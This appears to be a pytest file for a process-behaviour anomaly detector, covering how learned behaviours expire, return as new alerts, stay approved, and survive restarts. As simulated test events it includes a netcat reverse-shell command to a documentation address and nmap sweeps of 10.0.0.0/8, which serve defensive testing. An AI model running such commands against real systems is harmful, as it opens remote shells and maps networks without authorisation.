"""What was learned and is not done any more expires, by days on which the workload was there; what comes back is new."""

from collections.abc import Callable, Sequence
from dataclasses import replace

import numpy as np
import pytest
from detection.cluster import BEGIN, CART, SECOND, Cluster, Replica, alerts, latest
from peerwatch.columns import EventColumns

from collector.analysis import Analysis
from collector.analysis.analysis import Changes
from collector.analysis.curated import CuratedAnalysis
from collector.analysis.lives import DAY, MOST_DAYS, Lives
from collector.detect.support import GONE_DAYS, GONE_STARTS, gone
from collector.records import Action, BaselineEntry, BehaviourState, BehaviourType, Change, Incident
from collector.state import Flush, State

NOON = 86_400 / 2
OLD = "/usr/bin/pg_dump"
KEY = f"{OLD} <- /usr/bin/server"
DAYS = range(GONE_DAYS + 5)


def noon(day: float) -> float:
    return day * 86_400 + NOON


def lived(cluster: Cluster, pods: Sequence[Replica], days: Sequence[int] | range) -> None:
    """Let each replica begin on the first of these days, and do on all of them what it always does."""
    for number, pod in enumerate(pods):
        cluster.exec(noon(days[0]) + number, pod, "/usr/bin/server", parent="")
        for day in days:
            cluster.exec(noon(day) + 60 + number, pod, "/usr/bin/psql")


def dumped(cluster: Cluster, pods: Sequence[Replica], *days: int) -> None:
    for day in days:
        for number, pod in enumerate(pods):
            cluster.exec(noon(day) + 100 + number, pod, OLD)


def years() -> tuple[Cluster, list[Replica]]:
    """Return three replicas that dumped on their first two days."""
    cluster = Cluster()
    pods = cluster.pods(3)
    lived(cluster, pods, DAYS)
    dumped(cluster, pods, 0, 1)
    return cluster, pods


def entry(analysis: Analysis, key: str = KEY) -> BaselineEntry:
    (found,) = [each for each in analysis.baseline(CART) if each.key == key]
    return found


def observed(cluster: Cluster, *, until: int = len(DAYS) + 100, analysis: Analysis | None = None) -> Analysis:
    analysis = analysis or Analysis()
    rows = [at for at, _, _ in cluster.sorted()]
    analysis.observe(cluster.table(0, sum(at < until * 86_400 for at in rows)))
    return analysis


def test_it_stays_while_it_may_come_back() -> None:
    cluster, _ = years()
    # Done last on day 1; on the morning of day 47 there were the days 2 to 46.
    assert entry(observed(cluster, until=GONE_DAYS + 2)).state is BehaviourState.LEARNED
    assert entry(observed(cluster, until=GONE_DAYS + 3)).state is BehaviourState.EXPIRED


def test_it_keeps_its_history_and_everything_else_its_place() -> None:
    cluster, _ = years()
    analysis = observed(cluster)
    found = entry(analysis)
    assert (found.replicas, found.of, found.count) == (3, 3, 6)
    assert found.first_seen == BEGIN + int((noon(0) + 100) * SECOND)
    assert found.last_seen == found.gone == BEGIN + int((noon(1) + 102) * SECOND)
    assert {each.key for each in analysis.baseline(CART) if each.state is BehaviourState.LEARNED} == {
        "/usr/bin/server",
        "/usr/bin/psql <- /usr/bin/server",
    }
    assert analysis.counters.left_out() == {"expired_behaviours": 1}
    (summary,) = analysis.workloads()
    assert (summary.learned, summary.candidates) == (2, 0)


def test_days_on_which_the_workload_was_not_there_do_not_count() -> None:
    cluster = Cluster()
    first, second = cluster.pods(3), cluster.pods(3, first=3)
    lived(cluster, first, range(2))
    dumped(cluster, first, 0, 1)
    lived(cluster, second, range(300, 320))
    lived(cluster, cluster.pods(1, workload="other"), range(321))
    assert entry(observed(cluster, until=400)).state is BehaviourState.LEARNED


def test_what_belongs_to_a_start_is_kept_until_others_have_started_without_it() -> None:
    cluster = Cluster()
    pods = cluster.pods(3)
    lived(cluster, pods, DAYS)
    assert {each.state for each in observed(cluster).baseline(CART)} == {
        BehaviourState.LEARNED
    }  # /usr/bin/server, on day 0 only
    for number in range(GONE_STARTS):
        for day in DAYS[2:]:
            cluster.exec(noon(day) + number, cluster.pods(1, first=10 + number)[0], "/usr/bin/psql")
    assert entry(observed(cluster), "/usr/bin/server").state is BehaviourState.EXPIRED


def test_what_was_never_learned_does_not_expire() -> None:
    cluster, pods = years()
    dumped(cluster, pods[:1], 0)
    cluster.exec(noon(0) + 500, pods[0], "/usr/bin/nc", args=("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))
    analysis = observed(cluster)
    states = {each.key: each.state for each in analysis.baseline(CART)}
    assert states["/usr/bin/nc <- /usr/bin/server"] is BehaviourState.CANDIDATE


def back(cluster: Cluster, pod: Replica) -> float:
    """Let an odd program that used to be normal come back on one replica; return when."""
    at = noon(DAYS[-1]) + 200
    cluster.exec(at, pod, "/usr/bin/nmap", args=("nmap", "-sS", "10.0.0.0/8"))
    return at


def scanned() -> tuple[Cluster, list[Replica]]:
    """Return three replicas that scanned on their first two days, all of them, and have not since."""
    cluster, pods = years()
    for day in (0, 1):
        for number, pod in enumerate(pods):
            cluster.exec(noon(day) + 300 + number, pod, "/usr/bin/nmap", args=("nmap", "-sS", "10.0.0.0/8"))
    return cluster, pods


SCAN = "/usr/bin/nmap <- /usr/bin/server"


def decided(action: Action, *, until: int = 0) -> Change:
    return Change(BEGIN + 2 * DAY, CART, action, "alice", "as ever", "app", BehaviourType.EXEC, SCAN, until)


def run(cluster: Cluster, analysis: Analysis) -> list[Incident]:
    incidents = analysis.observe(cluster.table())
    return latest(incidents + analysis.advance(BEGIN + (len(DAYS) + 1) * DAY))


def approved() -> CuratedAnalysis:
    analysis = CuratedAnalysis()
    analysis.decide([decided(Action.APPROVE)])
    return analysis


def told_at_the_end(incidents: Sequence[Incident], at: float) -> list[Incident]:
    return [each for each in alerts(incidents) if each.first_event >= BEGIN + int(at * SECOND)]


def test_what_comes_back_is_new_and_its_alert_says_since_when_it_was_gone() -> None:
    cluster, pods = scanned()
    analysis = approved()  # or the first scans would be told
    before = run(cluster, analysis)
    assert told_at_the_end(before, noon(3)) == []

    analysis = approved()
    at = back(cluster, pods[1])
    rows = sum(each < at for each, _, _ in cluster.sorted())
    analysis.observe(cluster.table(0, rows))
    analysis.decide([decided(Action.RESET)])
    incidents = analysis.observe(cluster.table(rows))
    incidents += analysis.advance(BEGIN + (len(DAYS) + 1) * DAY)
    (told,) = told_at_the_end(latest(incidents), at)
    assert [each.pod for each in told.replicas] == [pods[1].name]
    gone_since = entry(analysis, SCAN).gone
    assert gone_since == BEGIN + int((noon(1) + 302) * SECOND)
    assert "it was usual here until 2027-01-" in told.reason
    assert "ever did" not in told.reason


def test_what_somebody_approved_does_not_expire() -> None:
    cluster, pods = scanned()
    at = back(cluster, pods[1])
    analysis = approved()
    assert told_at_the_end(run(cluster, analysis), at) == []
    found = entry(analysis, SCAN)
    assert (found.state, found.by) == (BehaviourState.APPROVED, "alice")


def test_what_comes_back_and_stays_is_learned_again() -> None:
    cluster, pods = years()
    later = range(DAYS[-1] + 1, DAYS[-1] + 4)
    for day in later:
        for number, pod in enumerate(pods):
            cluster.exec(noon(day) + 60 + number, pod, "/usr/bin/psql")
    dumped(cluster, pods, *later)
    found = entry(observed(cluster, until=100))
    assert (found.state, found.count, found.replicas) == (BehaviourState.LEARNED, 9, 3)
    assert found.gone == BEGIN + int((noon(1) + 102) * SECOND)


def comes_and_goes() -> EventColumns:
    """Return events in which something is learned, expires, comes back, is learned, and expires again."""
    cluster, pods = years()
    again = DAYS[-1] + 1
    for day in range(again, again + GONE_DAYS + 5):
        for number, pod in enumerate(pods):
            cluster.exec(noon(day) + 60 + number, pod, "/usr/bin/psql")
    dumped(cluster, pods, again, again + 1)
    return cluster.table()


WHOLE = comes_and_goes()


def outcome(analysis: Analysis, said: Sequence[Incident]) -> tuple[list[Incident], list[BaselineEntry]]:
    return list(said), analysis.baseline(CART)


def in_tables(rows: int) -> tuple[list[Incident], list[BaselineEntry]]:
    analysis, said = Analysis(), []
    for begin in range(0, len(WHOLE), rows):
        said += analysis.observe(WHOLE.take(np.arange(begin, min(begin + rows, len(WHOLE)))))
    return outcome(analysis, said + analysis.finish())


ONCE = in_tables(len(WHOLE))


def test_it_expires_again_and_its_history_adds_up() -> None:
    _, baseline = ONCE
    (found,) = [each for each in baseline if each.key == KEY]
    assert (found.state, found.count, found.replicas) == (BehaviourState.EXPIRED, 12, 6)
    assert found.first_seen == BEGIN + int((noon(0) + 100) * SECOND)


@pytest.mark.parametrize("rows", [1, 97])
def test_the_way_the_events_are_cut_changes_nothing(rows: int) -> None:
    assert in_tables(rows) == ONCE


def saved(state: State, changes: Changes) -> None:
    state.write(Flush(replicas=changes.replicas, expired=changes.expired, sightings=changes.sightings))


@pytest.mark.parametrize("every", [29, 61, 97])
def test_a_restart_changes_nothing(every: int) -> None:
    """Whatever is saved when: before it expires, when it has, and when it is back."""
    state, analysis, said = State("sqlite://"), Analysis(), []
    for begin in range(0, len(WHOLE), every):
        said += analysis.observe(WHOLE.take(np.arange(begin, min(begin + every, len(WHOLE)))))
        said += analysis.finish()
        saved(state, analysis.take_changes())
        analysis = Analysis()
        analysis.restore(state.replicas(), state.sightings(), [], state.expired())
    state_of = {each.key: replace(each, example=()) for each in analysis.baseline(CART)}
    expected = {each.key: replace(each, example=()) for each in ONCE[1]}
    assert state_of == expected
    assert len(state.expired()) == 1
    assert KEY not in {each.key for each in state.sightings()}
    state.close()


@pytest.mark.parametrize(
    ("days", "starts", "steady", "expected"),
    [
        (GONE_DAYS, 0, True, True),
        (GONE_DAYS - 1, GONE_STARTS, True, False),
        (GONE_DAYS, GONE_STARTS - 1, False, False),
        (GONE_DAYS, GONE_STARTS, False, True),
    ],
)
def test_silence_counts_in_days_and_for_starts_in_starts(days: int, starts: int, *, steady: bool, expected: bool) -> None:
    assert gone(days=days, starts=starts, steady=steady) is expected


def lives(*spans: tuple[float, float]) -> Lives:
    found = Lives()
    found.add_all((int(begin * DAY), int(end * DAY)) for begin, end in spans)
    return found


@pytest.mark.parametrize("order", [lambda spans: spans, reversed], ids=["forth", "back"])
def test_days_are_counted_once_however_many_lived_on_them(order: Callable[[object], object]) -> None:
    spans = [(10.2, 12.5), (11.9, 14.1), (20.0, 20.1)]
    found = lives(*order(spans))
    assert [found.days_after(int(day * DAY)) for day in (0, 9.5, 10.5, 13.9, 14.9, 20.5, 900)] == [6, 6, 5, 2, 1, 0, 0]
    assert [found.starts_after(int(day * DAY)) for day in (0, 10.2, 11.9, 20.0)] == [3, 2, 1, 0]


def test_what_lives_for_years_costs_no_more_than_what_is_remembered() -> None:
    found = lives((0, 10), (5, 100_000), (3, 4), (99_000, 100_001))
    assert found.days_after(0) == MOST_DAYS
    assert found._bits.bit_length() <= MOST_DAYS  # noqa: SLF001 — its size is what this is about
    assert found.days_after(99_999 * DAY) == 2
    found.add(0, 1)
    assert found.days_after(99_999 * DAY) == 2
    assert found._bits.bit_length() <= MOST_DAYS  # noqa: SLF001 — as above
